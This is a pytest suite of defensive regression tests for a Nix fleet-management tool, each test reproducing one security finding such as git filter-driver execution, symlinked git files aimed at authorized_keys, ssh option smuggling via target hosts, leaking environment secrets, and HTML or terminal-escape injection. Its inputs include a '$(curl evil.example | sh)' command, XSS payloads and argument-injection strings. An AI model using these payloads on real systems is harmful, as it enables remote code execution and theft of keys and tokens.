"""Attacks on the surface added with commits, migration control, migrate verify and deploy; one test per finding.

- `migrate verify --old REF` ran `git archive` with the repository's own config: a filter driver named
  by `.gitattributes` and defined in `.git/config` (`filter.x.smudge`) ran as the admin.
- dendrite's commits wrote through links in the git directory: `.git/logs/HEAD -> ~/x` had a reflog
  line (with the committer name the repository's config chose) appended outside the repository; a
  `.git` file (`gitdir: /elsewhere/.git`) put the commit into another repository; a repository's own
  `commit.gpgSign` made the admin's key sign the attacker's tree.
- A journal line nesting 100,000 arrays made `migrate status` (and decide, report) an internal error.
- A plan template with a format spec (`{host:>60000000}`) built a string of that size when
  `migrate check --dry-run` only printed the commands.
- A target host `-Fcfg@h` from the inventory passed the address check: ssh reads `-Fcfg@h` as the
  option -F, a config file whose ProxyCommand runs.
- migrate verify's comparison of a moved flake source's files followed a directory link in the source
  (`files -> /proc/self`): `files/environ`, dendrite's environment, was shown in the diff.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from dendrite.deploy.ssh import parse_address
from dendrite.drv import sourcefiles
from dendrite.errors import InputError
from dendrite.inventory import revision
from dendrite.migration import plan as migration_plan
from tests.hostile.conftest import (
    Fleet,
    Sentinel,
    assert_refused,
    dendrite,
)

GIT_ID = ["-c", "user.name=attacker", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false"]


# the admin's identity (their global git config, in real life)
IDENT = {"GIT_AUTHOR_NAME": "admin", "GIT_AUTHOR_EMAIL": "admin@example.org"}
IDENT |= {"GIT_COMMITTER_NAME": "admin", "GIT_COMMITTER_EMAIL": "admin@example.org"}


def run(fleet: Fleet, *args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    return dendrite(["--repo", str(fleet.root), *args], fleet.env | IDENT, stdin=stdin)


def no_bug(res: subprocess.CompletedProcess[bytes]) -> str:
    err = res.stderr.decode(errors="replace")
    assert res.returncode in (0, 1, 2), f"exit {res.returncode}: {err}"
    assert "Traceback" not in err and "internal error" not in err, err
    return err


def refused_after_the_change(res: subprocess.CompletedProcess[bytes], *words: str) -> None:
    """A commit refused: exit 2 with one `error:` sentence (after the `wrote ...` note of the change)."""
    err = res.stderr.decode(errors="replace")
    assert res.returncode == 2, err
    errors = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in err, err
    for w in words:
        assert w in errors[0], err


def git(root: Path, *args: str) -> str:
    res = subprocess.run(["git", "-C", str(root), *GIT_ID, *args], check=True, capture_output=True)
    return res.stdout.decode()


def git_repo(fleet: Fleet) -> None:
    git(fleet.root, "init", "-q")
    git(fleet.root, "add", "-A")
    git(fleet.root, "commit", "-q", "-m", "the attacker's branch")


# ----------------------------------------------------------------------------------- migrate verify


def test_verify_archive_runs_no_filter_driver_of_the_repository(
    fleet: Fleet, sentinel: Sentinel, tmp_path: Path
) -> None:
    marker = tmp_path / "filter-ran"
    (fleet.root / ".gitattributes").write_text("flake.nix filter=evil\n")
    git_repo(fleet)
    git(fleet.root, "config", "filter.evil.smudge", f"sh -c 'touch {marker}; cat'")
    git(fleet.root, "config", "filter.evil.required", "true")
    res = run(fleet, "migrate", "verify", "cinnabar", "--old", "HEAD", "--timeout", "5")
    no_bug(res)
    assert not marker.exists(), "git archive ran the repository's filter driver"


def test_verify_does_not_show_a_file_behind_a_directory_link_of_the_source(
    sentinel: Sentinel, tmp_path: Path
) -> None:
    """A moved source's `files -> /proc/self` (or `-> ~/.ssh`) is not read: the diff never shows it."""
    src = tmp_path / "store" / ("a" * 32 + "-source")
    src.mkdir(parents=True)
    (src / "proc").symlink_to("/proc/self")
    (src / "ssh").symlink_to(sentinel.private_key.parent)
    os.environ["DENDRITE_REVIEW_TOKEN"] = "token-that-must-not-show"
    try:
        assert sourcefiles.describe(src / "proc" / "environ", src) is None
        assert sourcefiles.describe(src / "ssh" / "id_ed25519", src) is None
    finally:
        del os.environ["DENDRITE_REVIEW_TOKEN"]
    (src / "files").mkdir()
    (src / "files" / "banner").write_text("hello\n")
    assert sourcefiles.describe(src / "files" / "banner", src) == repr("hello\n")


# ------------------------------------------------------------------------------------------ commits


def test_commit_does_not_append_to_a_reflog_linked_outside(fleet: Fleet, sentinel: Sentinel) -> None:
    git_repo(fleet)
    head_log = fleet.root / ".git" / "logs" / "HEAD"
    head_log.unlink()
    head_log.symlink_to(sentinel.authorized_keys)
    env = {**fleet.env, "GIT_AUTHOR_NAME": "admin", "GIT_AUTHOR_EMAIL": "admin@example.org"}
    git(fleet.root, "config", "user.name", "$(curl evil.example | sh)")
    git(fleet.root, "config", "user.email", "a@example.org")
    res = dendrite(["--repo", str(fleet.root), "secrets", "set", "review-secret"], env, stdin=b"value\n")
    refused_after_the_change(res, "symbolic link", "logs/HEAD")
    # the sentinel fixture proves authorized_keys is byte-identical


def test_commit_does_not_go_to_a_repository_a_git_file_names(fleet: Fleet, tmp_path: Path) -> None:
    other = tmp_path / "admins-other-repo"
    other.mkdir()
    (other / "README").write_text("mine\n")
    git(other, "init", "-q")
    git(other, "add", "-A")
    git(other, "commit", "-q", "-m", "the admin's own work")
    before = git(other, "rev-parse", "HEAD")
    (fleet.root / ".git").write_text(f"gitdir: {other / '.git'}\n")
    res = run(fleet, "secrets", "set", "review-secret", stdin=b"value\n")
    refused_after_the_change(res, "outside")
    assert git(other, "rev-parse", "HEAD") == before
    assert "sops" not in git(other, "ls-files")


def test_commit_is_not_signed_because_the_repository_says_so(fleet: Fleet, tmp_path: Path) -> None:
    """The repository's own `commit.gpgSign` with a signing program the admin trusts (git's default gpg,
    here a fake one first on PATH) must not make the admin's key sign the attacker's tree."""
    git_repo(fleet)
    marker = tmp_path / "gpg-ran"
    bindir = tmp_path / "bin"
    bindir.mkdir()
    fake = bindir / "gpg"
    fake.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    fake.chmod(0o755)
    git(fleet.root, "config", "commit.gpgsign", "true")
    git(fleet.root, "config", "user.name", "attacker")
    git(fleet.root, "config", "user.email", "a@example.org")
    env = {**fleet.env, "PATH": f"{bindir}:{fleet.env['PATH']}"}
    res = dendrite(["--repo", str(fleet.root), "secrets", "set", "review-secret"], env, stdin=b"value\n")
    assert res.returncode == 0, res.stderr.decode()
    assert not marker.exists(), "the repository's commit.gpgSign ran the signing program"
    assert "sops/secrets/review-secret" in git(fleet.root, "show", "--name-only", "HEAD")


# ------------------------------------------------------------------------------------------ migration


def test_a_journal_line_nesting_deeply_is_reported_not_a_crash(fleet: Fleet, tmp_path: Path) -> None:
    with (fleet.root / "migration" / "journal.jsonl").open("a") as f:
        f.write("[" * 100_000 + "]" * 100_000 + "\n")
    for args in (["status"], ["report", "--html", str(tmp_path / "r.html")]):
        err = no_bug(run(fleet, "migrate", *args))
        assert "journal.jsonl:" in err and "nests deeper than 100 levels" in err, err
    no_bug(run(fleet, "migrate", "decide", "1"))  # decides on the other lines


@pytest.mark.parametrize("template", ["{host:>60000000}", "{target!r}"])
def test_a_plan_template_with_a_format_spec_is_refused(fleet: Fleet, template: str) -> None:
    plan = fleet.root / "migration" / "plan.toml"
    text = plan.read_text()
    assert '"nixos-rebuild switch --rollback --target-host {target}"' in text
    plan.write_text(text.replace("--target-host {target}", f"--target-host {template}"))
    res = run(fleet, "migrate", "rollback", "blackphos", "--dry-run")
    assert_refused(res, "format spec")
    assert len(res.stdout) < 10_000


# ------------------------------------------------------------------------------------------- deploy


@pytest.mark.parametrize("target", ["-Fcfg@host", "-oProxyCommand@host", "-E.log@10.0.0.1:22"])
def test_a_target_host_whose_user_starts_with_a_dash_is_refused(target: str, tmp_path: Path) -> None:
    """`ssh ... -Fcfg@host -- cmd` reads ./cfg@host as its config (a ProxyCommand runs: checked with the
    real ssh while reviewing); the address must be refused before any ssh runs."""
    with pytest.raises(InputError, match="starts with '-'"):
        parse_address(target, "the target host of m")
    assert parse_address("deploy-user@host").user == "deploy-user"


# ------------------------------------------------------------------------------ the service catalogue


def _path_lock(fleet: Fleet, path: str) -> None:
    node = {
        "locked": {"narHash": "sha256-AAAA", "rev": "0123456789abcdef0123456789abcdef01234567"}
        | {"type": "path", "path": path, "lastModified": 1755820800},
        "original": {"type": "path", "path": path},
    }
    lock = {"nodes": {"clan-core": node, "root": {"inputs": {"clan-core": "clan-core"}}}}
    (fleet.root / "flake.lock").write_text(json.dumps(lock | {"root": "root", "version": 7}))


@pytest.mark.parametrize("where", ["absolute", "relative", "linked"])
def test_a_path_input_outside_the_repository_is_not_read(
    fleet: Fleet, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """flake.lock's `path` input naming a directory outside (`/home/you/x`, `../..`, or a link in the
    repository to one) must not make dendrite read `clanServices` there."""
    outside = tmp_path / "admins-checkout"
    (outside / "clanServices" / "admin-private-service").mkdir(parents=True)
    (outside / "clanServices" / "admin-private-service" / "default.nix").write_text("{ }\n")
    if where == "absolute":
        path = str(outside)
    elif where == "relative":
        path = os.path.relpath(outside, fleet.root)
    else:
        (fleet.root / "vendor").mkdir()
        (fleet.root / "vendor" / "clanServices").symlink_to(outside / "clanServices")
        path = "vendor"
    _path_lock(fleet, path)
    monkeypatch.chdir(fleet.root)  # where the admin runs dendrite: a relative path must not count from here
    assert revision.pinned(fleet.root, store=tmp_path / "store").source is None  # type: ignore[union-attr]
    res = dendrite(["inventory", "validate"], fleet.env, cwd=fleet.root)
    out = res.stdout + res.stderr
    no_bug(res)
    assert str(outside).encode() not in out and b"admin-private-service" not in out, out.decode()


def test_upload_directory_writes_no_set_uid_file_from_a_declared_mode(fleet: Fleet, tmp_path: Path) -> None:
    """`mode = "6755"` on an activation secret whose bytes the repository's generator chose: the file
    `vars upload --directory` writes gets the permission bits only."""
    with (fleet.root / "dendrite.toml").open("a") as f:
        f.write(
            "\n[generators.review-suid]\n"
            'script = \'printf "#!/bin/sh\\nid\\n" > "$out/tool"\'\n'
            'files.tool = { neededFor = "activation", mode = "6755" }\n'
            'machines = ["cinnabar"]\n'
        )
    gen = run(fleet, "vars", "generate", "cinnabar", "-g", "review-suid")
    assert gen.returncode == 0, gen.stderr.decode()
    out = tmp_path / "upload"
    res = run(fleet, "vars", "upload", "cinnabar", "--directory", str(out))
    assert res.returncode == 0, res.stderr.decode()
    tool = out / "activation" / "per-machine" / "cinnabar" / "review-suid" / "tool"
    assert tool.read_bytes().startswith(b"#!/bin/sh")
    assert stat.S_IMODE(tool.stat().st_mode) == 0o755


# ------------------------------------------------------------------------------------------ scaffold


def test_init_force_does_not_make_a_repository_where_a_planted_git_link_points(
    fleet: Fleet, tmp_path: Path
) -> None:
    """`git init` follows a dangling `.git -> /elsewhere/new` and makes its repository there."""
    target = tmp_path / "colleagues-dir"
    target.mkdir()
    (target / "notes.txt").write_text("theirs\n")
    outside = tmp_path / "outside-parent"
    outside.mkdir()
    (target / ".git").symlink_to(outside / "repo")
    res = dendrite(["init", str(target), "--force"], fleet.env)
    assert_refused(res, "symbolic link")
    assert list(outside.iterdir()) == []
    assert sorted(p.name for p in target.iterdir()) == [".git", "notes.txt"]


def test_verify_evaluation_does_not_see_the_admins_environment(fleet: Fleet, tmp_path: Path) -> None:
    """The flake's evaluation is impure (`builtins.getFlake` of a directory): `builtins.getEnv` must not
    find the admin's age key or tokens there; nix's own settings still reach it."""
    tree = tmp_path / "hostile-tree"
    tree.mkdir()
    (tree / "flake.nix").write_text(
        '{ outputs = _: throw "leak:${builtins.getEnv "SOPS_AGE_KEY"}:'
        '${builtins.getEnv "GITHUB_TOKEN"}:${builtins.getEnv "NIX_REVIEW_SETTING"}"; }\n'
    )
    env = fleet.env | {"SOPS_AGE_KEY": "AGE-SECRET-KEY-REVIEWMARKER", "GITHUB_TOKEN": "ghp_reviewmarker"}
    env |= {"NIX_CONFIG": "build-users-group =\nexperimental-features =", "NIX_REVIEW_SETTING": "kept"}
    res = dendrite(
        ["--repo", str(tree), "migrate", "verify", "alpha", "--old", str(tree), "--new", str(tree)], env
    )
    out = res.stdout + res.stderr
    no_bug(res)
    assert b"leak:" in out and b":kept" in out, out.decode()  # the evaluation ran and its error is shown
    assert b"REVIEWMARKER" not in out and b"reviewmarker" not in out, out.decode()


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("start = 2026-11-11", "start = 9999-12-01", "start date"),
        ("start = 2026-11-11", "start = 0001-01-01", "start date"),
        ("weeks = 1\n", "weeks = 1000000000\n", "`weeks`"),
    ],
)
def test_plan_dates_past_what_a_date_holds_are_one_sentence(
    fleet: Fleet, tmp_path: Path, old: str, new: str, words: str
) -> None:
    """A start in year 9999 or a billion weeks made status and report an OverflowError (exit 70)."""
    plan = fleet.root / "migration" / "plan.toml"
    text = plan.read_text()
    assert old in text
    plan.write_text(text.replace(old, new, 1))
    for args in (["status"], ["decide", "1"], ["report", "--html", str(tmp_path / "r.html")]):
        assert_refused(run(fleet, "migrate", *args), "plan.toml", words)


@pytest.mark.parametrize(
    "where", ["include", "attributesfile", "gitignore", "info-exclude", "HEAD", "index", "packed-refs"]
)
def test_commit_does_not_wait_on_a_fifo_git_reads(fleet: Fleet, tmp_path: Path, where: str) -> None:
    """git opens its config includes, `core.attributesFile`, `.gitignore` and `.git/info/exclude` with a
    blocking open(2): a FIFO there hung each git command of the commit until its 300 s timeout."""
    git_repo(fleet)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    if where == "include":
        git(fleet.root, "config", "include.path", str(fifo))
    elif where == "attributesfile":
        git(fleet.root, "config", "core.attributesFile", str(fifo))
    elif where == "gitignore":
        (fleet.root / "sops" / ".gitignore").unlink(missing_ok=True)
        os.mkfifo(fleet.root / "sops" / ".gitignore")
    elif where == "info-exclude":
        (fleet.root / ".git" / "info" / "exclude").unlink(missing_ok=True)
        os.mkfifo(fleet.root / ".git" / "info" / "exclude")
    else:  # what git reads on every command
        (fleet.root / ".git" / where).unlink(missing_ok=True)
        os.mkfifo(fleet.root / ".git" / where)
    proc = subprocess.run(
        [sys.executable, "-m", "dendrite", "--repo", str(fleet.root), "secrets", "set", "review-secret"],
        check=False,
        env=fleet.env | IDENT,
        input=b"value\n",
        capture_output=True,
        timeout=20,
    )
    refused_after_the_change(proc, "not a regular file")


def test_a_journal_too_big_to_parse_in_memory_is_one_sentence(fleet: Fleet, tmp_path: Path) -> None:
    """A 1 GiB journal was read and parsed (about 7 GB of memory); over 64 MiB it is refused."""
    journal = fleet.root / "migration" / "journal.jsonl"
    with journal.open("r+b") as f:
        f.truncate(65 * 1024 * 1024)  # sparse: the size is what counts
    for args in (["status"], ["decide", "1"], ["report", "--html", str(tmp_path / "r.html")]):
        assert_refused(run(fleet, "migrate", *args), "journal.jsonl", "limit")


@pytest.mark.parametrize("reducer", ["not a table", "forged"])
def test_a_planted_journal_cache_is_not_used(fleet: Fleet, reducer: str) -> None:
    """`.dendrite/migration-journal.json` shipped with the repository, matching its journal's SHA-256:
    a fold of the wrong shape was an internal error, a well-formed one showed state the journal lacks."""
    data = (fleet.root / "migration" / "journal.jsonl").read_bytes()
    end = data.rfind(b"\n") + 1
    flag = {
        "host": "cinnabar",
        "severity": "critical",
        "text": "FORGED-FLAG",
        "opened": "2026-11-20T00:00:00Z",
    }
    fold: object = reducer if reducer != "forged" else {"flags": {"99": flag | {"resolved": None}}}
    doc = {"version": 1, "offset": end, "lines": data.count(b"\n"), "problems": [], "reducer": fold}
    doc["sha256"] = hashlib.sha256(data[:end]).hexdigest()
    (fleet.root / ".dendrite").mkdir(exist_ok=True)
    (fleet.root / ".dendrite" / "migration-journal.json").write_text(json.dumps(doc))
    res = run(fleet, "migrate", "status")
    no_bug(res)
    assert res.returncode == 0 and b"FORGED-FLAG" not in res.stdout, res.stdout.decode()


def test_verify_does_not_wait_on_a_fifo_git_config_includes(fleet: Fleet, tmp_path: Path) -> None:
    git_repo(fleet)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    git(fleet.root, "config", "include.path", str(fifo))
    proc = subprocess.run(
        [sys.executable, "-m", "dendrite", "--repo", str(fleet.root), "migrate", "verify", "cinnabar"],
        check=False,
        env=fleet.env,
        capture_output=True,
        timeout=20,
    )
    assert_refused(proc, "not a regular file")


@pytest.mark.parametrize("command", [["inventory", "validate"], ["layout", "lint"]])
def test_listing_files_does_not_wait_on_a_fifo_git_config_includes(
    fleet: Fleet, tmp_path: Path, command: list[str]
) -> None:
    """The inventory's walk asks git which files it tracks: a FIFO its config includes blocked that
    `git rev-parse` for 30 s, in every command that reads the repository's Nix files."""
    git_repo(fleet)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    git(fleet.root, "config", "include.path", str(fifo))
    proc = subprocess.run(
        [sys.executable, "-m", "dendrite", "--repo", str(fleet.root), *command],
        check=False,
        env=fleet.env,
        capture_output=True,
        timeout=20,
    )
    assert_refused(proc, "not a regular file")


def test_commit_does_not_write_its_message_through_a_linked_commit_editmsg(
    fleet: Fleet, sentinel: Sentinel
) -> None:
    """git writes `.git/COMMIT_EDITMSG` on every commit, through a link; a linked `.git/hooks` (never
    written, no hook runs) is a common setup and still commits."""
    git_repo(fleet)
    (fleet.root / ".git" / "COMMIT_EDITMSG").unlink(missing_ok=True)
    (fleet.root / ".git" / "COMMIT_EDITMSG").symlink_to(sentinel.authorized_keys)
    res = run(fleet, "secrets", "set", "review-secret", stdin=b"value\n")
    refused_after_the_change(res, "symbolic link", "COMMIT_EDITMSG")
    (fleet.root / ".git" / "COMMIT_EDITMSG").unlink()
    shared_hooks = fleet.root / "githooks"
    (fleet.root / ".git" / "hooks").rename(shared_hooks)
    (fleet.root / ".git" / "hooks").symlink_to(shared_hooks)
    res = run(fleet, "secrets", "set", "review-secret-2", stdin=b"value\n")
    assert res.returncode == 0, res.stderr.decode()
    assert "review-secret-2" in git(fleet.root, "show", "--name-only", "HEAD")


def test_report_html_escapes_what_the_plan_and_journal_say(fleet: Fleet, tmp_path: Path) -> None:
    """No finding: names and evidence with tags, attribute breakers and CSS url() are text in the
    report, which has a CSP allowing no script and no remote resource."""
    plan = fleet.root / "migration" / "plan.toml"
    evil = "</title><script>alert(1)</script><style>*{background:url(//evil.example/x)}</style>"
    text = plan.read_text()
    plan.write_text(text.replace('name = "test-clan validation"', f"name = {json.dumps(evil)}", 1))
    with (fleet.root / "migration" / "journal.jsonl").open("a") as f:
        event = {"ts": "2026-11-20T00:00:00Z", "type": "attest", "phase": 1, "criterion": "luks"}
        f.write(
            json.dumps(event | {"evidence": "x' onmouseover='alert(1)' <img src=x onerror=alert(1)>"}) + "\n"
        )
    out = tmp_path / "r.html"
    res = run(fleet, "migrate", "report", "--html", str(out))
    assert res.returncode == 0, res.stderr.decode()
    html = out.read_text()
    assert "<script" not in html and "<img" not in html and "<style>*{" not in html
    assert "onmouseover='" not in html and "Content-Security-Policy" in html and "default-src 'none'" in html


def test_terminal_control_sequences_from_the_plan_and_journal_are_shown_not_sent(fleet: Fleet) -> None:
    """A phase name or evidence with ESC sequences (clear the screen, retitle the window, move up and
    print a fake "GO") reached the terminal raw from `status`, `plan` and `decide`."""
    fake = "\u001b[2J\u001b]0;PWNED\u001b\\\u001b[1A\u001b[2KPhase 1 now: GO"
    plan = fleet.root / "migration" / "plan.toml"
    text = plan.read_text()
    assert 'name = "test-clan validation"' in text
    plan.write_text(text.replace('name = "test-clan validation"', f"name = {json.dumps(fake)}", 1))
    with (fleet.root / "migration" / "journal.jsonl").open("a") as f:
        event = {"ts": "2026-11-20T00:00:00Z", "type": "attest", "phase": 1, "criterion": "luks"}
        f.write(json.dumps(event | {"evidence": fake, "by": "x"}) + "\n")
    for args in (["status"], ["plan"], ["decide", "1"]):
        res = run(fleet, "migrate", *args)
        no_bug(res)
        assert b"\x1b" not in res.stdout + res.stderr, (args, res.stdout)
    assert b"\\x1b[2J" in run(fleet, "migrate", "status").stdout  # shown, escaped


def test_only_check_and_rollback_run_the_plans_commands(fleet: Fleet, tmp_path: Path) -> None:
    """No finding: every probe and rollback command of the plan is replaced by one that leaves a mark;
    status, plan, decide, advance, report and the two --dry-runs run none of them."""
    mark = tmp_path / "ran"
    plan = fleet.root / "migration" / "plan.toml"
    data = tomllib.loads(plan.read_text())
    for phase in data["phases"]:
        for c in phase["criteria"]:
            if "command" in c:
                c["command"] = ["sh", "-c", f"touch {mark}"]
    data["rollback"] = {k: [f"touch {mark}"] for k in data["rollback"]}
    plan.write_text(migration_plan.dumps(data))
    for args in (
        ["status"],
        ["plan"],
        ["decide", "1"],
        ["advance", "1"],
        ["report", "--html", str(tmp_path / "r.html")],
        ["report", "--markdown", str(tmp_path / "md")],
        ["check", "0", "--dry-run"],
        ["rollback", "blackphos", "--dry-run"],
    ):
        no_bug(run(fleet, "migrate", *args))
        assert not mark.exists(), args
    res = run(fleet, "migrate", "check", "0")
    no_bug(res)
    assert mark.exists(), (
        res.stdout.decode() + res.stderr.decode()
    )  # the plan's commands did run when asked: the marks above mean something
